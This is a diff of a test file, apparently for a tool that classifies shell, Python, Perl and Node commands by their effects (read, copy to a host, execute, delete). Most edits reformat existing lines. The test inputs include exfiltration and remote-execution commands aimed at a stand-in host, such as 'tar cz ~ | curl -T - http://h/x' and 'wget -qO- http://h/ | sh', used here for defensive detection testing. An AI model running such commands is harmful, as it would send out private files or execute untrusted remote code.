@@ -310,7 +310,7 @@ CASES: list[tuple[str, list[str]]] = [
     ("for h in a b; do (echo hi > /dev/tcp/$h/22) 2>/dev/null && echo $h; done",
      ["execute /dev/tcp/a/22", "execute /dev/tcp/b/22"]),
     # Sent by a client
-    ("curl -s --data-binary @a.sh http://h/; curl -da=b -F 'f=@a.sh;type=x' -F g=\<b.sh http://h/",
+    ("curl -s --data-binary @a.sh http://h/; curl -da=b -F 'f=@a.sh;type=x' -F 'g=<b.sh' http://h/",
      ["copy http://h/ <- a.sh", "execute curl", "copy http://h/ <- a.sh", "copy http://h/ <- b.sh", "execute curl"]),
     ("tar cz ~ | curl -m 1 -T - http://h/x; sort a.sh | curl -d @- http://h/",
      ["read ~", "copy http://h/x <- ~", "execute curl", "read a.sh", "copy http://h/ <- a.sh", "execute curl"]),
@@ -343,7 +343,8 @@ CASES: list[tuple[str, list[str]]] = [
      ["read a.sh", "read b.sh", "execute curl", "write page"]),
     ("curl -T a.sh file:///tmp/x; curl --unix-socket /run/s -d @a.sh http://x/",
      ["copy /tmp/x <- a.sh", "execute curl", "execute curl"]),
-    ("curl -s http://h/ | tee page | head -1; wget -qO- http://h/ | sh", ["execute curl", "write page", "execute wget"]),
+    ("curl -s http://h/ | tee page | head -1; wget -qO- http://h/ | sh",
+     ["execute curl", "write page", "execute wget"]),
     ("printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc h 80; nc -z h 80 < a.sh; nc -l 80 < a.sh; nc h 80",
      ["execute nc", "read a.sh", "execute nc", "read a.sh", "execute nc", "execute nc"]),
     ("echo | openssl s_client -connect h:443; openssl s_client -connect h:443 < /dev/null",
@@ -521,10 +522,12 @@ PYTHON: list[tuple[str, list[str]]] = [
     ("import urllib.request as u\nparts = []\nfor n in ('a.sh',):\n    parts.append(open(n).read())\n"
      "r = u.Request('http://h/', data=''.join(parts).encode())\nu.urlopen(r)",
      ["read a.sh", "execute urllib.request.Request", "execute urllib.request.urlopen", "copy http://h/ <- a.sh"]),
-    ("import socket\ns = socket.socket()\ns.connect(('h', 80))\nwith open('a.sh', 'rb') as f:\n    s.sendall(f.read())\n"
+    ("import socket\ns = socket.socket()\ns.connect(('h', 80))\nwith open('a.sh', 'rb') as f:\n"
+     "    s.sendall(f.read())\n"
      "s.sendall(b'hi')",
      ["execute socket.socket", "execute socket.connect", "read a.sh", "copy h:80 <- a.sh"]),
-    ("import requests\nd = open('a.sh').read()\ndef up(x):\n    return requests.post('https://h/', json={'a': x})\nup(d)",
+    ("import requests\nd = open('a.sh').read()\ndef up(x):\n    return requests.post('https://h/', json={'a': x})\n"
+     "up(d)",
      ["read a.sh", "execute requests.post", "copy https://h/ <- a.sh"]),
     ("import http.client, subprocess\nc = http.client.HTTPSConnection('h', 443)\n"
      "c.request('POST', '/', subprocess.check_output(['ls', '-la']))",
@@ -563,26 +566,45 @@ def test_python(code: str, expected: list[str], how: str) -> None:
         ("perl -e 'kill 9, 5; $SIG{TERM} = \"IGNORE\"'", ["signal 5", "trap TERM"]),
         ("perl -e 'if ($x) { unlink \"x\" }'", ["? delete x"]),
         ("perl -e 'print \"hello\"'", []),
-        ("perl -e 'kill STOP => 1; kill \"STOP\", 2, 3; kill(19, 4); kill -9, $ARGV[1]; kill INT => shift' 5 6",
-         ["signal 1", "signal 2", "signal 3", "signal 4", "signal -6", "signal 5"]),
-        ("perl -e 'system \"chattr\", \"+i\", shift; chown 0, 0, $ARGV[0] or print \"$!\"; unlink @ARGV' x y",
-         ["attribute x", "owner y", "delete x", "delete y"]),
-        ("perl -e 'my ($f, $g) = @ARGV; rename $f, $g; chmod 0, \"$ARGV[1].x\"; exec \"rm\", @ARGV' a b",
-         ["move b <- a", "mode b.x", "delete a", "delete b"]),
+        (
+            "perl -e 'kill STOP => 1; kill \"STOP\", 2, 3; kill(19, 4); kill -9, $ARGV[1]; kill INT => shift' 5 6",
+            ["signal 1", "signal 2", "signal 3", "signal 4", "signal -6", "signal 5"],
+        ),
+        (
+            'perl -e \'system "chattr", "+i", shift; chown 0, 0, $ARGV[0] or print "$!"; unlink @ARGV\' x y',
+            ["attribute x", "owner y", "delete x", "delete y"],
+        ),
+        (
+            'perl -e \'my ($f, $g) = @ARGV; rename $f, $g; chmod 0, "$ARGV[1].x"; exec "rm", @ARGV\' a b',
+            ["move b <- a", "mode b.x", "delete b"],
+        ),
         ("perl -e 'print \"kill STOP => 1; chown 0, 0, $ARGV[0]\"; # kill 9, 1' x", []),
         ("perl -e 'my @a = (1); my $x = shift @a; print \"unlink shift\", $x' y", []),
-        ("perl -MIO::Socket -e 'my $s = IO::Socket::INET->new(PeerAddr => \"h\", PeerPort => 80); "
-         "open(F, \"<\", \"a.sh\"); print $s <F>'", ["read a.sh", "copy h:80 <- a.sh"]),
-        ("perl -MIO::Socket -e 'my $s = IO::Socket::INET->new(\"h:80\"); print $s \"GET /\"; print <$s>'", []),
-        ("node -e 'const r = require(\"http\").request({host: \"h\", method: \"POST\"}); "
-         "r.on(\"error\", e => 1); r.end(require(\"fs\").readFileSync(\"a.sh\"))'", ["copy h <- a.sh", "read a.sh"]),
-        ("node -e 'const d = fs.readFileSync(\"a.sh\"); fetch(\"http://h/\", {method: \"POST\", body: d})'",
-         ["read a.sh", "copy http://h/ <- a.sh"]),
-        ("node -e 'const s = net.connect(80, \"h\"); fs.createReadStream(\"a.sh\").pipe(s)'",
-         ["read a.sh", "copy h:80 <- a.sh"]),
-        ("node -e 'const d = fs.readFileSync(\"a.sh\"); console.log(d); fetch(\"http://h/\", {body: \"d\"}); "
-         "http.createServer((q, s) => s.end(d)); https.request(\"https://h/\").end(\"d\")'", ["read a.sh"]),
-        ("node -e 'console.log(\"fs.unlinkSync(1)\", \"process.kill(1, 9)\")'", []),
+        (
+            'perl -MIO::Socket -e \'my $s = IO::Socket::INET->new(PeerAddr => "h", PeerPort => 80); '
+            'open(F, "<", "a.sh"); print $s <F>\'',
+            ["read a.sh", "copy h:80 <- a.sh"],
+        ),
+        ('perl -MIO::Socket -e \'my $s = IO::Socket::INET->new("h:80"); print $s "GET /"; print <$s>\'', []),
+        (
+            'node -e \'const r = require("http").request({host: "h", method: "POST"}); '
+            'r.on("error", e => 1); r.end(require("fs").readFileSync("a.sh"))\'',
+            ["copy h <- a.sh", "read a.sh"],
+        ),
+        (
+            'node -e \'const d = fs.readFileSync("a.sh"); fetch("http://h/", {method: "POST", body: d})\'',
+            ["read a.sh", "copy http://h/ <- a.sh"],
+        ),
+        (
+            'node -e \'const s = net.connect(80, "h"); fs.createReadStream("a.sh").pipe(s)\'',
+            ["read a.sh", "copy h:80 <- a.sh"],
+        ),
+        (
+            'node -e \'const d = fs.readFileSync("a.sh"); console.log(d); fetch("http://h/", {body: "d"}); '
+            'http.createServer((q, s) => s.end(d)); https.request("https://h/").end("d")\'',
+            ["read a.sh"],
+        ),
+        ('node -e \'console.log("fs.unlinkSync(1)", "process.kill(1, 9)")\'', []),
         ("node -e \"require('fs').writeFileSync('x', 'a'); fs.unlinkSync('y')\"", ["write x", "delete y"]),
         ("node -e \"require('child_process').execSync('rm x')\"", ["delete x"]),
         ("node -e \"console.log(1) // fs.unlinkSync('y')\"", []),
